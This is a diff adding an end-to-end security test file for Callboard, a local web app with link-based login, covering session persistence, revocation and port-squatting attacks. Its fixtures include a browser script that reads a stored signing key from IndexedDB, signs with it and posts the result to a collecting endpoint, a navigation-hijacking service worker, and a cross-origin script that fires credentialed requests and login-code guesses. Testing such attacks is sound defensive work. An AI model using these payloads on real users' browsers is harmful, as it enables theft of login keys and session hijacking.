@@ -1,0 +1,257 @@
+import type { Page } from 'playwright-core';
+import { expect, it, onTestFinished } from 'vitest';
+import { z } from 'zod';
+import { callApi } from './support/api.ts';
+import { openBrowser } from './support/browser.ts';
+import { install } from './support/callboard.ts';
+import { partPid } from './support/processes.ts';
+import { squat } from './support/squatter.ts';
+
+const HEADER = 'x-callboard-page';
+const board = (page: Page) => page.getByRole('region', { name: 'Backlog' });
+
+/** A browser that is logged in, at a Callboard that may be started again on the same port. */
+async function openBoard() {
+  const installation = await install({}, undefined, true);
+  const running = await installation.start();
+  onTestFinished(running.stop);
+  const browser = await openBrowser();
+  await browser.page.goto(running.loginLink);
+  await board(browser.page).waitFor();
+  return { ...installation, ...running, ...browser, port: Number(new URL(running.origin).port) };
+}
+
+/** Another browser, which follows a link that `callboard link` prints. */
+async function logInElsewhere(command: (...args: string[]) => Promise<{ output: string }>) {
+  const browser = await openBrowser();
+  await browser.page.goto((await command('link')).output.trim());
+  await board(browser.page).waitFor();
+  return browser;
+}
+
+const create = (page: Page, title: string) =>
+  page.evaluate(
+    (name) =>
+      fetch('/api/stages', {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ projectId: 'shop', title: name, prompt: 'Do it' }),
+      }).then(async (response) => [response.status, (await response.json()).code]),
+    title,
+  );
+
+it('leaves no code in the address or the history, and takes the cookie alone for nothing', async () => {
+  const { page, origin, loginLink, errors } = await openBoard();
+  expect(page.url()).toBe(`${origin}/`);
+  await page.goBack().catch(() => null);
+  expect(page.url()).not.toContain('code');
+  await page.goto(loginLink); // again, in the browser that is logged in already
+  await board(page).waitFor();
+  // A script of this very origin, which sends the cookie and does not know the key.
+  expect(await create(page, 'By cookie alone')).toEqual([401, 'page_not_proven']);
+  expect(errors.filter((error) => !/401|ERR_ABORTED/.test(error))).toEqual([]);
+});
+
+it('counts as loaded when the board does, so that whoever opens the link may go on at once', async () => {
+  const { start } = await install({}, undefined, true);
+  const { loginLink, origin, stop } = await start();
+  onTestFinished(stop);
+  const { page } = await openBrowser();
+  await page.goto(loginLink);
+  await page.goto(`${origin}/inbox`);
+  await page.getByRole('heading', { name: 'Inbox' }).waitFor();
+});
+
+it('goes on in two tabs when the web server is started again, without a new login', async () => {
+  const { page, context, origin, supervisor } = await openBoard();
+  const other = await context.newPage();
+  await other.goto(origin);
+  await board(other).waitFor();
+  const pid = await partPid(Number(supervisor.pid), 'web server');
+  process.kill(Number(pid), 'SIGKILL');
+  await expect.poll(async () => (await callApi(origin, 'GET', '/api/health').catch(() => null))?.status).toBe(200);
+  for (const [index, tab] of [page, other].entries()) {
+    await tab.getByRole('button', { name: 'New stage' }).first().click();
+    const dialog = tab.getByRole('dialog', { name: 'New stage' });
+    await dialog.getByRole('textbox', { name: 'Title' }).fill(`Made after ${index}`);
+    await dialog.getByRole('textbox', { name: 'Prompt' }).fill('Do it');
+    await dialog.getByRole('button', { name: 'Create stage' }).click();
+    await dialog.waitFor({ state: 'hidden' });
+  }
+  for (const tab of [page, other]) {
+    await tab.getByText('Made after 0').first().waitFor();
+    await tab.getByText('Made after 1').first().waitFor();
+  }
+});
+
+it('says in plain words that the key of the login was lost, does not go round in circles, and takes a new link', async () => {
+  const { page, origin, command } = await openBoard();
+  await page.goto(`${origin}/favicon.svg`); // no connection to the database is open
+  await page.evaluate(
+    () =>
+      new Promise((resolve, reject) => {
+        const deleting = indexedDB.deleteDatabase('callboard');
+        deleting.onsuccess = resolve;
+        deleting.onerror = reject;
+      }),
+  );
+  let requests = 0;
+  page.on('request', (request) => {
+    if (request.url().includes('/api/')) requests += 1;
+  });
+  await page.goto(origin);
+  await page.getByText('This browser no longer has the key of its login').waitFor();
+  await page.getByText('npx callboard link').waitFor();
+  const before = requests;
+  await page.waitForTimeout(3_000);
+  expect(requests).toBe(before);
+  expect(before).toBeLessThan(10);
+  await page.goto((await command('link')).output.trim());
+  await board(page).waitFor();
+});
+
+it('tells every board of a new login at once, and a revoked browser can do nothing more', async () => {
+  const { page, command, origin } = await openBoard();
+  const other = await logInElsewhere(command);
+  const notice = page.getByRole('alert').filter({ hasText: 'New login: Chrome on Linux' });
+  await notice.getByText(/logged in through a link/).waitFor();
+  await notice.getByRole('button', { name: 'Revoke' }).click();
+  await other.page.getByText('You are not logged in').waitFor(); // its stream was closed; nobody has touched it
+  await notice.waitFor({ state: 'hidden' });
+  await other.page.reload();
+  await other.page.getByText('You are not logged in').waitFor();
+
+  await page.getByRole('button', { name: 'Account' }).click();
+  await page.getByRole('menuitem', { name: 'Logins' }).click();
+  const rows = page.getByRole('dialog', { name: 'Logins' }).getByRole('listitem');
+  await rows.filter({ hasText: 'this browser' }).waitFor();
+  expect(await rows.count()).toBe(1);
+  await rows.getByRole('button', { name: 'Log out' }).click();
+  await page.getByText('You are not logged in').waitFor();
+  const { logins } = await (await callApi(origin, 'GET', '/api/logins')).json();
+  expect(logins).toEqual([]);
+});
+
+/** Reads the key of our origin, signs what it likes with it, and sends that home. */
+const THIEF = `
+  const open = indexedDB.open('callboard');
+  open.onsuccess = () => {
+    const all = open.result.transaction('login').objectStore('login').get('login');
+    all.onsuccess = async () => {
+      const key = all.result;
+      const sign = async (text) => {
+        const bytes = await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, key, new TextEncoder().encode(text));
+        return btoa(String.fromCharCode(...new Uint8Array(bytes))).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
+      };
+      const nonce = 'AAAAAAAAAAAAAAAAAAAAAA.99999999.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
+      const signature = await sign('callboard page\\n' + location.origin + '\\n' + nonce);
+      const taken = await crypto.subtle.exportKey('pkcs8', key).then(() => 'taken', () => 'refused');
+      await fetch('/collect', { method: 'POST', body: JSON.stringify({ nonce, signature, taken }) });
+    };
+  };`;
+const Loot = z.object({ nonce: z.string(), signature: z.string(), taken: z.string() });
+
+it('gives nothing that works later to a program that takes the port while Callboard is away', async () => {
+  const { page, context, origin, port, stop, start } = await openBoard();
+  await stop();
+  const squatter = await squat(port, THIEF);
+  // The open page comes back to the port by itself, and proves nothing; another tab runs the squatter's script.
+  await expect.poll(() => squatter.seen.some((headers) => headers[HEADER] !== undefined)).toBe(true);
+  const victim = await context.newPage();
+  await victim.goto(origin);
+  await expect.poll(() => squatter.collected.length).toBeGreaterThan(0);
+  await victim.close();
+  const { nonce, signature, taken } = Loot.parse(JSON.parse(squatter.collected[0] ?? ''));
+  expect(taken).toBe('refused');
+  const { cookie = '', [HEADER]: token = '' } = squatter.seen.find((headers) => headers[HEADER] !== undefined) ?? {};
+  const secret = /callboard_session_\d+=([^;]+)/.exec(cookie)?.[1] ?? '';
+  expect(secret).not.toBe('');
+  await squatter.close();
+
+  const again = await start(port);
+  onTestFinished(again.stop);
+  const attempt = async (headers: Record<string, string>) => (await fetch(`${origin}/api/board`, { headers })).status;
+  expect(await attempt({ cookie })).toBe(401);
+  expect(await attempt({ cookie, [HEADER]: String(token) })).toBe(401);
+  expect(await attempt({ authorization: `Bearer ${secret}` })).toBe(401);
+  const prove = async (body: object) => {
+    const response = await fetch(`${origin}/api/login/proof`, {
+      method: 'POST',
+      headers: { cookie, 'content-type': 'application/json' },
+      body: JSON.stringify(body),
+    });
+    return [response.status, (await response.json()).code];
+  };
+  expect(await prove({ nonce, signature })).toEqual([401, 'page_not_proven']); // a nonce of the squatter's own
+  const fresh = await (await fetch(`${origin}/api/login/nonce`)).json();
+  expect(await prove({ ...fresh, signature })).toEqual([401, 'page_not_known']);
+  // Whoever was logged in still is: in the tab that was open all the time, and in a new one.
+  await board(page).waitFor();
+  const next = await context.newPage();
+  await next.goto(origin);
+  await board(next).waitFor();
+});
+
+it('takes a service worker out of the browser that such a program has left behind', async () => {
+  const { context, page, origin, port, stop, start } = await openBoard();
+  await page.goto('about:blank');
+  await stop();
+  const worker = `self.addEventListener('install', () => self.skipWaiting());
+    self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
+    self.addEventListener('fetch', (event) => {
+      const page = new Response('<title>Not ours</title>', { headers: { 'content-type': 'text/html' } });
+      if (event.request.mode === 'navigate') event.respondWith(page);
+    });`;
+  const script = `navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
+    .then(() => fetch('/collect', { method: 'POST', body: 'registered' }));`;
+  const squatter = await squat(port, script, worker);
+  const victim = await context.newPage();
+  await victim.goto(origin);
+  await expect.poll(() => squatter.collected).toEqual(['registered']);
+  await victim.close();
+  await squatter.close();
+  const again = await start(port);
+  onTestFinished(again.stop);
+  await page.goto(origin);
+  await expect.poll(() => page.title()).toContain('Callboard');
+  await board(page).waitFor();
+  expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
+});
+
+it('lets a dev server on another port have the cookie, and do nothing with it', async () => {
+  const { page, context, origin } = await openBoard();
+  const attack = `(async () => {
+    const target = ${JSON.stringify(origin)};
+    const status = (path, options) => fetch(target + path, { credentials: 'include', ...options }).then((r) => r.status, () => 'refused');
+    const results = {
+      read: await status('/api/board'),
+      write: await status('/api/logout', { method: 'POST', mode: 'no-cors' }),
+      databases: (await indexedDB.databases()).length,
+    };
+    for (let i = 0; i < 300; i++) { const image = new Image(); image.src = target + '/login?code=guess' + i; }
+    for (let i = 0; i < 300; i++) { const image = new Image(); image.src = target + '/api/board?' + i; }
+    await fetch('/collect', { method: 'POST', body: JSON.stringify(results) });
+  })();`;
+  const dev = await squat(0, attack);
+  const visit = await context.newPage();
+  await visit.goto(dev.origin);
+  await expect.poll(() => dev.collected.length).toBeGreaterThan(0);
+  const { read, databases } = JSON.parse(dev.collected[0] ?? '');
+  expect([read, databases]).toEqual(['refused', 0]);
+  const { cookie = '' } = dev.seen[0] ?? {};
+  const secret = /callboard_session_\d+=([^;]+)/.exec(cookie)?.[1] ?? '';
+  expect(secret).not.toBe('');
+  const shown: Record<string, string>[] = [
+    { cookie },
+    { cookie, [HEADER]: secret },
+    { authorization: `Bearer ${secret}` },
+  ];
+  for (const headers of shown) {
+    for (const path of ['/api/board', '/api/events', '/api/decisions?format=csv', '/api/logins', '/api/openapi.json']) {
+      expect((await fetch(`${origin}${path}`, { headers })).status).toBe(401);
+    }
+  }
+  // It has logged nobody out, and has used nothing up.
+  await page.reload();
+  await board(page).waitFor();
+});
